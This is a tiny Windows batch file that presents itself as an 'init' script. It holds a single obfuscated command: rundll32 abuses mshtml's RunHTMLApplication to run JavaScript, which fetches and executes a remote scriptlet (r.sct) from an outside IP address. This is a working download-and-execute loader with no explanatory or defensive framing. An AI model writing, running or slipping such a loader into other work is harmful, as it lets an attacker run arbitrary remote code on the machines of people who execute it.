REM init 1772 v0
@echo off
set hnsn=rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://203.0.113.17/r.sct")
call %hnsn%
